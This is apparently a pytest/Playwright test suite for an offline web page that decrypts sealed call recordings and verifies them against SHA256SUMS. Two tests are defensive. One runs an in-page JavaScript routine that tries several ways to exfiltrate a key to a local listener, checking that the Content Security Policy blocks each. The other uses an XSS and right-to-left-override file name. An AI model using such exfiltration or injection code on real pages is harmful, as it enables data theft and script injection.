"""A tenant with the downloaded page, a private key and sealed files, and no server."""

from __future__ import annotations

import contextlib
import hashlib
import io
import math
import socket
import struct
import subprocess
import wave
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO

import pytest
from playwright.sync_api import Locator, Page, expect

from recpipe import samples
from recpipe.model import Recording
from recpipe.web import offline
from recpipe.web.zip_archive import archive
from tests.contracts.catalogue_samples import a_recording, a_tenant
from tests.services import need
from tests.services.browser import Complaints, NewPage
from tests.services.certificates import spare_key

PASSPHRASE = "Kölner Straße 7"  # not ASCII: UTF-8 is what OpenSSL's users type


def openssl(*args: str | Path) -> None:
    subprocess.run([need.tool("openssl"), *map(str, args)], check=True, capture_output=True)


def tone(seconds: int) -> bytes:
    """A WAV of 8 kHz 16-bit mono, as a PBX records."""
    body = io.BytesIO()
    with wave.open(body, "wb") as sound:
        sound.setparams((1, 2, 8000, 0, "NONE", ""))
        second = [int(9000 * math.sin(n / 8000 * 2 * math.pi * 440)) for n in range(8000)]
        sound.writeframes(struct.pack("<8000h", *second) * seconds)
    return body.getvalue()


@pytest.fixture(scope="module")
def tenant(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a person who followed the user guide: key pair, stranger's key pair, calls and their sums."""
    home = tmp_path_factory.mktemp("tenant")
    for who in ("my", "other"):
        key = home / f"{who}privatekey.pem"
        key.write_text(spare_key())
        made = ("req", "-new", "-key", key, "-x509", "-days", "1825", "-subj", f"/CN={who}")
        openssl(*made, "-out", home / f"{who}publickey.pem")
    openssl(
        *("pkcs8", "-topk8", "-v2", "aes-256-cbc", "-in", home / "myprivatekey.pem", "-out", home / "locked.pem"),
        *("-passout", f"pass:{PASSPHRASE}"),
    )
    openssl(
        *("pkcs12", "-export", "-inkey", home / "myprivatekey.pem", "-in", home / "mypublickey.pem"),
        *("-keypbe", "PBE-SHA1-3DES", "-certpbe", "PBE-SHA1-3DES", "-macalg", "sha1"),  # as Windows exports by default
        *("-out", home / "windows.pfx", "-passout", f"pass:{PASSPHRASE}"),
    )
    sums = []
    for name, content in (
        ("force-082155558663-3201-20250327-092517-1743042317.12206.wav", tone(2)),
        ("in-100-5550199-20250327-101500-1743045300.1.wav", tone(700)),  # 11 MB: several pieces
        ("challenge.txt", b"recpipe-proof-4F7K-22QX\n"),
    ):
        (home / name).write_bytes(content)
        seal(home, name)
        sums.append(f"{hashlib.sha256(content).hexdigest()}  {name}\n")
    (home / "SHA256SUMS").write_text("".join(sums))
    (home / "stranger.mp3").write_bytes(b"ID3")
    seal(home, "stranger.mp3", to="other")
    return home


def seal(home: Path, name: str, to: str = "my") -> Path:
    sealed = home / f"{name}.enc"
    command = ("smime", "-encrypt", "-binary", "-aes256", "-outform", "DER")
    openssl(*command, "-in", home / name, "-out", sealed, home / f"{to}publickey.pem")
    return sealed


@pytest.fixture(scope="module")
def location(tmp_path_factory: pytest.TempPathFactory) -> str:
    kept = tmp_path_factory.mktemp("kept") / "open-recordings.html"
    kept.write_text(offline.page(), encoding="utf-8")
    return kept.as_uri()


@pytest.fixture
def requests(page: Page) -> list[str]:
    """Every request of the page, blob: addresses (memory of the page itself) left out."""
    made: list[str] = []
    page.context.on("request", lambda request: made.append(request.url))
    return made


@pytest.fixture
def opened(page: Page, requests: list[str], location: str) -> Page:
    page.goto(location)
    return page


def row(page: Page, name: str) -> Locator:
    return page.get_by_role("listitem").filter(has_text=f"{name}.enc")


def saved(page: Page, item: Locator) -> tuple[str, bytes]:
    with page.expect_download() as download:
        item.get_by_role("link").click()
    return download.value.suggested_filename, Path(download.value.path()).read_bytes()


def test_a_tenant_opens_plays_and_saves_what_was_sealed_and_nothing_is_sent(
    opened: Page, requests: list[str], tenant: Path, location: str
) -> None:
    # Given two sealed recordings of different length
    names = sorted(path.name for path in tenant.glob("*-*.wav"))
    opened.get_by_label("Choose recordings").set_input_files([tenant / f"{name}.enc" for name in names])
    expect(opened.get_by_text("Waiting for the private key.")).to_have_count(2)

    # When the key and the sums are chosen
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    opened.get_by_label("Choose SHA256SUMS").set_input_files(tenant / "SHA256SUMS")

    # Then both are proved, saved as they were, and play
    expect(opened.get_by_text("✓ Matches SHA256SUMS")).to_have_count(2)
    expect(opened.get_by_role("status")).to_have_text("2 of 2 recordings opened.")
    for name in names:
        item = row(opened, name)
        content = (tenant / name).read_bytes()
        assert saved(opened, item) == (name, content)
        expect(item).to_contain_text(hashlib.sha256(content).hexdigest())
        audio = item.locator("audio")
        audio.evaluate("(audio) => audio.play()")
        opened.wait_for_function("(audio) => audio.currentTime > 0.2", arg=audio.element_handle())
    assert row(opened, names[1]).locator("audio").evaluate("(audio) => audio.duration") == pytest.approx(700)
    assert {url for url in requests if not url.startswith("blob:")} == {location}


def test_the_page_cannot_send_anything_even_if_told_to(opened: Page, location: str, complaints: Complaints) -> None:
    # Given somebody who listens, and script that runs in the page with the intent to tell them
    complaints.expect("policy violation|Content Security Policy|Trusted(HTML|Script)")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        outcomes = opened.evaluate(EXFILTRATION, f"127.0.0.1:{listener.getsockname()[1]}")

        # Then every way is closed by the policy, and nothing was told
        assert outcomes == dict.fromkeys(["fetch", "image", "event source", "markup", "script"], "refused")
        assert opened.url == location
        assert received_by(listener) == b""
    refused = " ".join(text for text in complaints.heard if text.startswith("policy violation"))
    for directive in ("connect-src", "img-src", "form-action", "require-trusted-types-for"):
        assert directive in refused


def received_by(listener: socket.socket) -> bytes:
    """All bytes of all connections: Chromium may open an idle one ahead of a form it then refuses to send."""
    received = b""
    listener.settimeout(0.3)
    with contextlib.suppress(TimeoutError):
        while True:
            connection, _ = listener.accept()
            with connection, contextlib.suppress(TimeoutError):
                connection.settimeout(0.3)
                received += connection.recv(1000)
    return received


EXFILTRATION = """async (host) => {
  const target = `http://${host}/?key`;
  const outcomes = {};
  const loaded = (element) => new Promise((done) => {
    element.onload = () => done("sent");
    element.onerror = () => done("refused");
  });
  outcomes.fetch = await fetch(target).then(() => "sent", () => "refused");
  const image = new Image();
  const imageLoaded = loaded(image);
  image.src = target;
  outcomes.image = await imageLoaded;
  outcomes["event source"] = await loaded(new EventSource(target));
  try {
    document.body.insertAdjacentHTML("beforeend", "<b>markup</b>");
    outcomes.markup = "sent";
  } catch {
    outcomes.markup = "refused";
  }
  const script = document.createElement("script");
  try {
    script.textContent = "globalThis.injected = true";
    document.body.append(script);
  } catch {}
  outcomes.script = globalThis.injected ? "sent" : "refused";
  navigator.sendBeacon(target, "key");
  try { new WebSocket(`ws://${host}/`); } catch {}
  const form = document.createElement("form");
  form.action = target;
  document.body.append(form);
  form.submit();
  await new Promise((done) => setTimeout(done, 300));
  return outcomes;
}"""


@pytest.mark.parametrize("name", ["locked.pem", "windows.pfx"])
def test_a_passphrase_is_asked_for_and_a_wrong_one_said_to_be_wrong(opened: Page, tenant: Path, name: str) -> None:
    opened.get_by_label("Choose recordings").set_input_files(tenant / "challenge.txt.enc")
    opened.get_by_label("Choose private key").set_input_files(tenant / name)
    expect(opened.get_by_label(f"Passphrase of {name}")).to_be_focused()

    opened.keyboard.type("wrong")
    opened.keyboard.press("Enter")
    expect(opened.get_by_role("alert")).to_contain_text("The passphrase does not open this private key.")

    opened.keyboard.type(PASSPHRASE)
    opened.keyboard.press("Enter")
    expect(opened.get_by_text("RSA, 2048 bits")).to_be_visible()
    expect(opened.get_by_text("recpipe-proof-4F7K-22QX")).to_be_visible()
    assert opened.get_by_label(f"Passphrase of {name}").input_value() == ""


def test_a_wrong_key_says_so_and_the_right_one_then_opens(opened: Page, tenant: Path) -> None:
    opened.get_by_label("Choose private key").set_input_files(tenant / "otherprivatekey.pem")
    opened.get_by_label("Choose recordings").set_input_files(tenant / "challenge.txt.enc")
    item = row(opened, "challenge.txt")
    expect(item).to_contain_text("This private key does not open this recording.")
    expect(item.get_by_role("link")).to_have_count(0)

    opened.get_by_role("button", name="Forget this key").click()
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    expect(item).to_contain_text("recpipe-proof-4F7K-22QX")


@pytest.mark.parametrize(
    ("name", "harm", "words"),
    [
        ("cut short.wav.enc", lambda sealed: sealed[:-1000], "The file is incomplete"),
        ("end.wav.enc", lambda sealed: sealed[:-40] + bytes(40), "The file is damaged"),
        ("longer.wav.enc", lambda sealed: sealed + b"\n", "bytes were added to it"),
        ("not.wav.enc", lambda sealed: tone(1), "This is not a sealed recording"),
        ("empty.wav.enc", lambda sealed: b"", "The file is incomplete"),
    ],
)
def test_a_damaged_file_says_what_is_wrong(
    opened: Page, tenant: Path, tmp_path: Path, name: str, harm: Callable[[bytes], bytes], words: str
) -> None:
    sealed = next(tenant.glob("force*.enc")).read_bytes()
    (tmp_path / name).write_bytes(harm(sealed))
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    opened.get_by_label("Choose recordings").set_input_files(tmp_path / name)
    expect(opened.get_by_role("listitem")).to_contain_text(words)
    expect(opened.get_by_role("status")).to_have_text("0 of 1 recording opened, 1 not.")


def test_one_flipped_bit_is_found_by_the_sums_and_not_offered_for_listening(
    opened: Page, tenant: Path, tmp_path: Path
) -> None:
    sealed = next(tenant.glob("force*.enc"))
    harmed = bytearray(sealed.read_bytes())
    harmed[len(harmed) // 2] ^= 1
    (tmp_path / sealed.name).write_bytes(harmed)
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    opened.get_by_label("Choose recordings").set_input_files(tmp_path / sealed.name)
    item = opened.get_by_role("listitem")
    expect(item.locator("audio")).to_be_visible()  # CBC alone cannot tell

    opened.get_by_label("Choose SHA256SUMS").set_input_files(tenant / "SHA256SUMS")
    expect(item).to_contain_text("Does not match SHA256SUMS: this file was damaged or altered.")
    expect(item.locator("audio")).to_be_hidden()
    expect(item.get_by_role("link")).to_have_text("Save anyway")


def test_sums_of_the_sealed_files_prove_them_as_well(opened: Page, tenant: Path, tmp_path: Path) -> None:
    sealed = next(tenant.glob("force*.enc"))
    sums = tmp_path / "SHA256SUMS.txt"
    sums.write_text(f"{hashlib.sha256(sealed.read_bytes()).hexdigest()} *./2025/03/27/{sealed.name}\r\n")
    opened.get_by_label("Choose recordings").set_input_files([tenant / "myprivatekey.pem", sealed, sums])
    expect(opened.get_by_text("✓ Matches SHA256SUMS")).to_have_count(1)


def test_everything_can_be_dropped_anywhere_together(opened: Page, tenant: Path) -> None:
    names = ["challenge.txt.enc", "myprivatekey.pem", "SHA256SUMS"]
    transfer = opened.evaluate_handle(
        """(files) => {
          const transfer = new DataTransfer();
          for (const [name, bytes] of files) transfer.items.add(new File([new Uint8Array(bytes)], name));
          return transfer;
        }""",
        [[name, list((tenant / name).read_bytes())] for name in names],
    )
    opened.dispatch_event("body", "dragenter", {"dataTransfer": transfer})
    expect(opened.get_by_text("Drop private key, ZIP, recordings or SHA256SUMS")).to_be_visible()
    opened.dispatch_event("body", "drop", {"dataTransfer": transfer})
    expect(opened.get_by_text("✓ Matches SHA256SUMS")).to_have_count(1)
    expect(opened.get_by_text("Drop private key, ZIP, recordings or SHA256SUMS")).to_be_hidden()


def zipped(home: Path, *names: str, damaged: str = "") -> Path:
    """The ZIP that the dashboard makes of these recordings, in two services; one of them damaged on its way."""
    recordings = []
    for n, name in enumerate(names):
        stored = (home / name).read_bytes()
        content = (home / name.removesuffix(".enc")).read_bytes()
        sha256, content_sha256 = (hashlib.sha256(part).hexdigest() for part in (stored, content))
        one = a_recording(
            a_tenant(),
            name=name,
            caller="02079460958",
            callee="201",
            facts={"caller_name": "Erin <b>Doyle"},
            minutes=n,
            stored_bytes=len(stored),
            stored_sha256=sha256,
            content_bytes=len(content),
            content_sha256=content_sha256,
            sealed=name.endswith(".enc"),
        )
        recordings.append((one, f"service{n}"))
    made = home / f"recordings{damaged}.zip"

    def stored_file(recording: Recording) -> BinaryIO:
        body = (home / recording.name).read_bytes()
        return io.BytesIO(body[:-1] + bytes([body[-1] ^ 1]) if recording.name == damaged else body)

    made.write_bytes(b"".join(archive(recordings, stored_file, lambda: None, folders=True)))  # type: ignore[arg-type]
    return made


def test_the_zip_of_the_dashboard_is_taken_as_it_is(opened: Page, tenant: Path, tmp_path: Path) -> None:
    # Given a ZIP of a sealed call, a plain one, and a plain one that no browser plays
    names = sorted(path.name for path in tenant.glob("*-*.wav"))
    (tenant / "callback.WAV").write_bytes(samples.paths()["callback-gsm.WAV"].read_bytes())
    archive_of_three = zipped(tenant, f"{names[0]}.enc", names[1], "callback.WAV")

    # When it is dropped beside the key
    opened.get_by_label("Choose recordings").set_input_files(archive_of_three)
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")

    # Then there is one verdict on top, and each call says what it was
    expect(opened.get_by_text("✓ 3 of 3 opened, and all match SHA256SUMS.")).to_be_visible()
    item = row(opened, names[0])
    expect(item).to_contain_text("14 Mar 2026, 16:09:26 · 02079460958 Erin <b>Doyle → 201 · 0:30")
    assert saved(opened, item) == (names[0], (tenant / names[0]).read_bytes())
    gsm = opened.get_by_role("listitem").filter(has_text="callback.WAV")
    gsm.locator("audio").evaluate("(audio) => audio.play()")
    opened.wait_for_function("(audio) => audio.currentTime > 0.1", arg=gsm.locator("audio").element_handle())
    assert saved(opened, gsm)[1] == (tenant / "callback.WAV").read_bytes(), "what is saved is what was recorded"

    # And one that was damaged is told on top as well
    opened.get_by_role("button", name="Clear list").click()
    opened.get_by_label("Choose recordings").set_input_files(zipped(tenant, names[1], "callback.WAV", damaged=names[1]))
    expect(opened.get_by_text("1 recording not as published: do not rely on it.")).to_be_visible()
    # And one whose download was cut off says so
    cut = tmp_path / "cut.zip"
    cut.write_bytes(archive_of_three.read_bytes()[:-300])
    opened.get_by_label("Choose recordings").set_input_files(cut)
    expect(opened.get_by_role("alert").filter(has_text="cut.zip cannot be read: it has no end")).to_be_visible()


def test_a_streamed_envelope_of_another_tool_opens_too(opened: Page, tenant: Path, tmp_path: Path) -> None:
    (tmp_path / "stream.wav").write_bytes(tone(5))
    openssl(
        *("cms", "-encrypt", "-stream", "-binary", "-aes128", "-outform", "DER", "-in", tmp_path / "stream.wav"),
        *("-out", tmp_path / "stream.wav.enc", tenant / "mypublickey.pem"),
    )
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    opened.get_by_label("Choose recordings").set_input_files(tmp_path / "stream.wav.enc")
    expect(opened.get_by_role("status")).to_have_text("1 of 1 recording opened.")
    assert saved(opened, opened.get_by_role("listitem")) == ("stream.wav", tone(5))


def test_hostile_file_names_stay_text(opened: Page, tenant: Path, tmp_path: Path) -> None:
    name = "<img src=x onerror=alert(1)>\u202egpm.exe.enc"
    (tmp_path / name).write_bytes((tenant / "challenge.txt.enc").read_bytes())
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    opened.get_by_label("Choose recordings").set_input_files(tmp_path / name)
    expect(opened.get_by_role("heading", name="<img src=x onerror")).to_be_visible()
    assert opened.locator("img").count() == 0


def test_the_keyboard_alone_reaches_everything(opened: Page, tenant: Path) -> None:
    opened.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    opened.get_by_label("Choose recordings").set_input_files(tenant / "challenge.txt.enc")
    expect(opened.get_by_role("link", name="Save challenge.txt")).to_be_visible()
    opened.locator("body").evaluate("() => document.activeElement.blur()")
    reached = []
    for _ in range(10):
        opened.keyboard.press("Tab")
        reached.append(opened.evaluate("() => document.activeElement.id || document.activeElement.className"))
    for stop in (
        "button key-forget",
        "recordings",
        "sums",
        "print",
        "remove-all",
        "button save",
        "button remove",
        "text",
    ):
        assert stop in reached


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_nothing_is_wider_than_the_window(
    new_page: NewPage, location: str, tenant: Path, scheme: str, width: int
) -> None:
    page = new_page(viewport={"width": width, "height": 740}, color_scheme=scheme)
    page.goto(location)
    page.get_by_label("Choose private key").set_input_files(tenant / "myprivatekey.pem")
    page.get_by_label("Choose recordings").set_input_files([*tenant.glob("*.enc"), tenant / "SHA256SUMS"])
    expect(page.get_by_text("✓ Matches SHA256SUMS")).to_have_count(3)
    expect(page.get_by_text("This private key does not open this recording.")).to_have_count(1)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= width


def test_it_speaks_the_language_of_the_browser_without_asking_anybody(
    new_page: NewPage, location: str, tenant: Path
) -> None:
    page = new_page(locale="fr-CA")
    page.goto(location)
    expect(page.locator("html")).to_have_attribute("lang", "fr")
    expect(page.get_by_role("heading", name="Ouvrir des enregistrements scellés")).to_be_visible()
    expect(page.locator("#keybox .hint code").first).to_have_text("myprivatekey.pem")  # still an element of its own
    page.locator("#key-file").set_input_files(tenant / "myprivatekey.pem")
    page.locator("#recordings").set_input_files(tenant / "challenge.txt.enc")
    expect(page.locator("#summary")).to_have_text("1 sur 1 enregistrement ouvert.")
    expect(page.locator(".recording .state")).to_have_text("Ouvert, 24 octets.")
